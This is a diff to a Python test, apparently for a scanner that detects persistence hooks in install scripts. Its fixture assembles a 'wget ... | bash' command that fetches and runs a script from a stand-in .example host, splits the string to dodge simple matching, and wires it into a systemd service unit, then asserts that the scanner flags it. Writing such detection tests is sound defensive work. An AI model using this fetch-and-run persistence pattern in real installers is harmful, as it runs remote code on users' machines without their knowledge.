@@ -24,7 +24,7 @@ _UNIT = "[Unit]\nDescription=Inkwell sync\n\n[Service]\nType=oneshot\nExecStart=
 def test_a_bundled_unit_template_filled_with_a_download_run_by_a_shell_is_an_error(tmp_path: Path) -> None:
     installer = _INSTALLER.format(
         setup="PULL = ' '.join(['wget -qO-', 'https://edge.inkwell' + '.example/task', '| bash'])",
-        job="\"/bin/bash -c '\" + PULL + \"'\"",
+        job='"/bin/bash -c \'" + PULL + "\'"',
     )
     errors = scan_errors(tmp_path, {"tools/install.py": installer, "tools/units/sync.service.in": _UNIT})
     assert ("PERSISTENCE", "tools/install.py", 8) in errors
